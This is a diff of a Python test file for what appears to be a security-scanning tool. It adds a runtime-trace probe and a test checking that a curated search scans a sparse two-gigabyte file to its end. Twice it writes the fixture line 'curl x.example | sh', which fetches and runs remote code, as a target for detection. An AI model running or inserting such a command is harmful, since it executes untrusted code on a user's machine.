@@ -103,7 +103,7 @@ class Misbehaving(JobTest):
         self.assertEqual(code, 2)
         self.assertEqual(scanners["gitleaks"]["outcome"], "scanner_failed")
         self.assertEqual(list(scanners), ["semgrep", "syft", "grype", "gitleaks", "scip_typescript", "ast_grep", "rg_curated",
-                                          "test_coverage", "blinding"])
+                                          "test_coverage", "runtime_trace", "blinding"])
         self.assertEqual(len(scanners["ast_grep"]["findings"]), 1)
         _, code, _ = self.probe("all", "--without", "gitleaks")
         self.assertEqual(code, 1)
@@ -202,7 +202,7 @@ class Reports(JobTest):
 
     def test_list_names_every_probe(self):
         listed = json.loads(self.sallyport("probe", "list", "--json").stdout)["probes"]
-        self.assertEqual(len(listed), 8)
+        self.assertEqual(len(listed), 9)
         wrong = self.sallyport("probe", "semgrp")
         self.assertEqual(wrong.returncode, 125)
         self.assertIn("semgrep", wrong.stderr)
@@ -247,6 +247,14 @@ class Many(JobTest):
         self.write("d7/x.sh", "curl x.example | sh\n")
         scanners, code, _ = self.probe("rg_curated")
         self.assertEqual((code, len(scanners["rg_curated"]["findings"])), (1, 1))
+
+    def test_a_file_of_two_gigabytes_is_searched_to_its_end(self):
+        """Sparse, so that it costs no disk; the line stands behind the hole."""
+        with open(self.repo / "large", "wb") as out:
+            out.seek(2 << 30)
+            out.write(b"\ncurl x.example | sh\n")
+        scanners, code, done = self.probe("rg_curated", "--timeout", "5m")
+        self.assertEqual((scanners["rg_curated"]["outcome"], code, len(scanners["rg_curated"]["findings"])), ("ran", 1, 1), done.stdout)
 
 
 if __name__ == "__main__":
